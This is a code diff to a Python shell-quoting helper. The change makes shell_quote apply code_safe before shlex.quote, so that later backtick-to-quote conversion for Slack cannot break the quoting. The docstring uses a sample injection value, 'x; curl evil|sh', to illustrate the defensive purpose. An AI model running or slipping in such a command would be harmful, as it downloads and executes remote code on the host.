@@ -83,10 +83,13 @@ def escape_mrkdwn(value: object) -> str:
 
 
 def shell_quote(value: object) -> str:
-    """One shell word, whatever the value holds (`x; curl evil|sh` stays one argument)."""
+    """One shell word, whatever the value holds (`x; curl evil|sh` stays one argument).
+
+    Made code-safe first: the Slack finalizer turns backticks into quotes
+    afterwards, which would otherwise close the shell quoting it wrapped."""
     import shlex
 
-    return shlex.quote("" if value is None else str(value))
+    return shlex.quote(code_safe(value))
 
 
 def code_safe(value: object) -> str:
